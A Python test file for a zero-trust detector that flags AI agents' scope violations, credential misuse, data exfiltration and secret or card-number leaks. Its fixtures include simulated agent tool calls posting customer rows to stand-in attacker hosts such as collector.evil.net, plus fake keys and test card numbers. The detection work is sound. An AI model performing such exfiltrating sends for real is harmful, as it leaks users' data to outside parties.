"""ZeroTrustDetector: scope violations, credential misuse, toxic flows, secrets and personal data going out."""

from __future__ import annotations

import re
from collections.abc import Callable
from fnmatch import fnmatchcase
from typing import Any

import pytest
import re2
from detect_secrets.plugins.keyword import DENYLIST_REGEX

from soar.detect.base import AgentProfile, DetectConfig, DetectContext, MemoryState
from soar.detect.zerotrust import (
    _KEYWORD_GATE,
    _RE_ONLY_FOLDS,
    _TOKEN_GATE,
    CredentialGrant,
    ZeroTrustDetector,
    _gates,
    _glob_regex,
    find_pii,
    find_secrets,
    iban_ok,
    luhn_ok,
)
from soar.identity.scopes import Scope
from soar.telemetry.events import AgentEvent
from soar.telemetry.findings import Severity

Ev = Callable[..., AgentEvent]


class Directory:
    """Profiles plus issued credentials, as the eval's fleet directory provides them."""

    def __init__(self) -> None:
        self.profiles = {
            "crm-assistant": AgentProfile("crm-assistant", frozenset({"crm.lookup", "crm.update", "email.send"})),
            "data-analyst": AgentProfile("data-analyst", frozenset({"db.query", "http.post"})),
            "support-agent": AgentProfile("support-agent", frozenset({"tickets.*"})),
        }
        self.credentials = {
            "cred-crm-1": CredentialGrant("cred-crm-1", "crm-assistant", "t1", (_scope("crm.lookup"),)),
            "cred-crm-2": CredentialGrant("cred-crm-2", "crm-assistant", "t2", (_scope("crm.*"),)),
        }

    def profile(self, agent_id: str) -> AgentProfile | None:
        return self.profiles.get(agent_id)

    def credential(self, credential_id: str) -> CredentialGrant | None:
        return self.credentials.get(credential_id)


def _scope(tool: str) -> Scope:
    return Scope(tool=tool, resources=["*"], actions=["*"])


@pytest.fixture
def zctx() -> DetectContext:
    return DetectContext(MemoryState(), Directory())


@pytest.fixture
def det(config: DetectConfig) -> ZeroTrustDetector:
    return ZeroTrustDetector(config)


def _call(ev: Ev, agent: str, tool: str, args: dict[str, Any], cred: str | None = None, task: str = "t1") -> AgentEvent:
    e = ev("tool_call", agent, {"tool": tool, "call_id": "c", "args": args, "credential_id": cred})
    return e.model_copy(update={"task_id": task})


def _in(ev: Ev, agent: str, source: str, content: str, origin: str = "", task: str = "t1") -> AgentEvent:
    e = ev("input", agent, {"source": source, "origin": origin, "content": content})
    return e.model_copy(update={"task_id": task})


def _rules(found: list) -> list[str]:
    return [f.rule for f in found]


# --- scope ------------------------------------------------------------------------------------------------------


def test_zerotrust_scope_violation_against_the_task_token(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    bad = _call(ev, "crm-assistant", "crm.update", {"account": "A"}, "cred-crm-1")
    (f,) = det.detect([bad], zctx)
    assert f.rule == "scope_violation" and f.severity is Severity.HIGH
    assert f.evidence["basis"] == "task token cred-crm-1" and f.evidence["allowed"] == ["crm.lookup"]
    assert det.detect([_call(ev, "crm-assistant", "crm.lookup", {}, "cred-crm-1")], zctx) == []
    assert det.detect([_call(ev, "crm-assistant", "crm.update", {}, "cred-crm-2", "t2")], zctx) == []  # crm.*


def test_zerotrust_scope_violation_against_enrolled_tools(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    (f,) = det.detect([_call(ev, "crm-assistant", "iam.create_user", {"role": "admin"})], zctx)
    assert f.rule == "scope_violation" and f.evidence["basis"] == "enrolled tools"
    assert det.detect([_call(ev, "support-agent", "tickets.reply", {})], zctx) == []  # glob grant
    assert det.detect([_call(ev, "unknown-agent", "anything", {})], zctx) == []  # not enrolled: identity's job


def test_zerotrust_scope_is_case_sensitive(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    found = det.detect([_call(ev, "crm-assistant", "CRM.Lookup", {}, "cred-crm-1")], zctx)
    assert _rules(found) == ["scope_violation"]


# --- credentials ------------------------------------------------------------------------------------------------


def test_zerotrust_credential_used_by_another_agent(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    use = ev("credential_use", "support-agent", {"credential_id": "cred-crm-1", "resource": "crm", "action": "read"})
    (f,) = det.detect([use], zctx)
    assert f.rule == "credential_misuse" and f.severity is Severity.CRITICAL
    assert f.evidence["issued_to"] == "crm-assistant" and f.evidence["known_from"] == "directory"
    own = ev("credential_use", "crm-assistant", {"credential_id": "cred-crm-1", "resource": "crm", "action": "read"})
    assert det.detect([own], zctx) == []


def test_zerotrust_credential_binding_learned_from_first_use(
    det: ZeroTrustDetector, zctx: DetectContext, ev: Ev
) -> None:
    first = ev("credential_use", "support-agent", {"credential_id": "static-key-7", "resource": "x", "action": "y"})
    again = ev("credential_use", "support-agent", {"credential_id": "static-key-7", "resource": "x", "action": "y"})
    other = _call(ev, "data-analyst", "db.query", {"sql": "select 1"}, "static-key-7")
    found = det.detect([first, again, other], zctx)
    assert _rules(found) == ["credential_misuse"] and found[0].event_ids == [other.event_id]
    assert found[0].evidence["known_from"] == "first use"


# --- toxic flows ------------------------------------------------------------------------------------------------


def test_zerotrust_toxic_flow_sensitive_read_then_external_send(
    det: ZeroTrustDetector, zctx: DetectContext, ev: Ev
) -> None:
    read = _call(ev, "data-analyst", "db.query", {"sql": "select * from customers"})
    send = _call(ev, "data-analyst", "http.post", {"url": "https://paste.example-bin.net/new", "body": "rows"})
    (f,) = det.detect([read, send], zctx)
    assert f.rule == "toxic_flow" and f.event_ids == [send.event_id]
    assert f.evidence["sensitive_tool"] == "db.query" and f.evidence["destinations"] == ["paste.example-bin.net"]
    # once per task
    assert det.detect([_call(ev, "data-analyst", "http.post", {"url": "https://x.example.org/"})], zctx) == []


def test_zerotrust_no_toxic_flow_for_internal_or_correspondent_or_other_task(
    det: ZeroTrustDetector, zctx: DetectContext, ev: Ev
) -> None:
    events = [
        _in(ev, "crm-assistant", "user", "Look up ACME and send the status to ops@globex-corp.example"),
        _call(ev, "crm-assistant", "crm.lookup", {"account": "ACME"}, "cred-crm-2"),
        _call(ev, "crm-assistant", "email.send", {"to": "ops@globex-corp.example"}, "cred-crm-2"),  # user named it
        _call(ev, "crm-assistant", "email.send", {"to": "ap@ourcorp.example"}, "cred-crm-2"),  # internal
        _call(ev, "data-analyst", "http.post", {"url": "https://evil.example.net/"}, task="t9"),  # no sensitive read
    ]
    assert [r for r in _rules(det.detect(events, zctx)) if r == "toxic_flow"] == []


def test_zerotrust_toxic_flow_adversarial_destinations(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    # a URL whose user-info names an internal host, a destination hidden in a cc list, upper case; URLs with a
    # malformed authority, which urlsplit refuses (it raised, and the event lost every check: found by fuzzing)
    for task, args in [
        ("a", {"url": "https://ourcorp.example@collector.evil.net/upload"}),
        ("b", {"to": "ap@ourcorp.example", "cc": ["Drop@FILES-Transfer.example.net"]}),
        ("c", {"url": "https://collector.evil.net]/upload"}),
        ("d", {"url": "https://[collector.evil.net/upload"}),
    ]:
        read = _call(ev, "data-analyst", "db.query", {"sql": "select 1"}, task=task)
        send = _call(ev, "data-analyst", "http.post", args, task=task)
        assert "toxic_flow" in _rules(det.detect([read, send], zctx)), args


# --- secrets and personal data ----------------------------------------------------------------------------------


def test_zerotrust_secret_in_tool_arguments_and_outputs(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    key_id = "AKIA" + "Q3EGV7TZ5MXN4RWB"  # split: fake values, not for repository scanners
    pem = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow"
    call = _call(ev, "support-agent", "tickets.reply", {"body": {"lines": ["config:", f"key {key_id}"]}})
    out = ev("output", "support-agent", {"content": pem, "destination": "user"})
    found = det.detect([call, out], zctx)
    assert _rules(found) == ["secret_leak", "secret_leak"]
    assert found[0].evidence["secrets"][0]["type"] == "AWS Access Key"
    assert key_id not in str(found[0].model_dump())  # redacted
    assert found[1].evidence["secrets"][0]["type"] == "Private Key"


def test_zerotrust_no_secret_in_ordinary_content(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    benign = [
        ev("output", "support-agent", {"content": "Your password expires in 7 days. Change it on the portal."}),
        ev("output", "support-agent", {"content": "Ticket 6f1c2a9e-8d44-4a3b-9d0e-1f2a3b4c5d6e sha256 " + "ab" * 32}),
        _call(ev, "support-agent", "tickets.reply", {"ticket": "T-1", "body": "The report is attached, thanks!"}),
    ]
    assert det.detect(benign, zctx) == []


def test_zerotrust_pii_only_when_it_leaves(det: ZeroTrustDetector, zctx: DetectContext, ev: Ev) -> None:
    card = "4111 1111 1111 1111"
    internal = ev("output", "crm-assistant", {"content": f"card {card}", "destination": "ap@ourcorp.example"})
    external = ev("output", "crm-assistant", {"content": f"card {card}", "destination": "x@evil.example.net"})
    bad_luhn = ev("output", "crm-assistant", {"content": "card 4111 1111 1111 1112", "destination": "x@e.example"})
    found = det.detect([internal, external, bad_luhn], zctx)
    assert _rules(found) == ["pii_leak"] and found[0].event_ids == [external.event_id]
    assert found[0].severity is Severity.MEDIUM and found[0].evidence["pii"] == [
        {"type": "payment_card", "value": "…1111"}
    ]


def test_zerotrust_checksums() -> None:
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert iban_ok("GB33 BUKB 2020 1555 5555 55") and not iban_ok("GB33 BUKB 2020 1555 5555 56")
    assert find_pii("pay FR76 3000 6000 0112 3456 7890 189 today") == [("iban", "FR76…")]
    assert find_pii("order 1234 5678 9012 3456 and phone 555-0100") == []


def test_zerotrust_find_secrets_uses_the_library_plugins(det: ZeroTrustDetector) -> None:
    types = {t for t, _ in find_secrets('db_password = "s3cr3t-Pa55w0rd"', det.plugins)}
    assert types == {"Secret Keyword"}
    assert find_secrets("plain prose with no tokens at all", det.plugins) == []


def test_zerotrust_without_credential_lookup_falls_back(det: ZeroTrustDetector, ctx: DetectContext, ev: Ev) -> None:
    """The worker's key directory has profiles but no issued credentials: enrolled tools and first use decide."""
    own = _call(ev, "crm-assistant", "crm.lookup", {}, "tok-1")
    out_of_grant = _call(ev, "crm-assistant", "payments.transfer", {"amount": 1}, "tok-1")
    borrowed = _call(ev, "finance-ops", "payments.transfer", {"amount": 1}, "tok-1")
    found = det.detect([own, out_of_grant, borrowed], ctx)
    assert [(f.rule, f.event_ids[0]) for f in found] == [
        ("scope_violation", out_of_grant.event_id),
        ("credential_misuse", borrowed.event_id),
    ]


def test_zerotrust_re2_keyword_gate_never_says_no_where_re_says_yes() -> None:
    """Every code point ``re.IGNORECASE`` matches to a denylist letter is matched by the RE2 gate too, or is one
    of the characters the gate sends to Python's re; whole texts agree with the re gate."""
    letters = {c for c in DENYLIST_REGEX if c.isalpha()}
    for cp in range(0x30000):
        c = chr(cp)
        if 0xD800 <= cp < 0xE000 or c in _RE_ONLY_FOLDS:
            continue
        for letter in letters:
            if re.fullmatch(re.escape(letter), c, re.IGNORECASE):
                assert re2.fullmatch("(?i)" + re.escape(letter), c), (letter, hex(cp))
    texts = [
        "nothing here at all",
        "the PASSWORD is x",
        "pa\u017fsword: hunter2",  # long s: re folds it to s
        "AP\u0130_KEY=abc",  # dotted capital I: only re folds it
        "db_\u0131ass",  # dotless i is not in the denylist words: no match either way
        "contrase\u00d1a",
        "lone \ud800 surrogate secret",
        "token AKIAIOSFODNN7EXAMPLE here",
        "-----BEGIN RSA PRIVATE KEY-----",
    ]
    for text in texts:
        want = (_KEYWORD_GATE.search(text) is not None, re.search(_TOKEN_GATE.pattern, text) is not None)
        assert _gates(text) == want, text


def test_zerotrust_glob_regex_matches_like_fnmatchcase() -> None:
    globs = ["hr.*", "db.query", "vault.*", "files.read_private", "x?y", "[ab].c"]
    rx = _glob_regex(globs)
    for name in ["hr.read", "hr.", "hr", "db.query", "db.queryx", "vault.get", "xay", "a.c", "c.c", "HR.read", "\n"]:
        assert (rx.match(name) is not None) == any(fnmatchcase(name, g) for g in globs), name
    assert _glob_regex([]).match("anything") is None
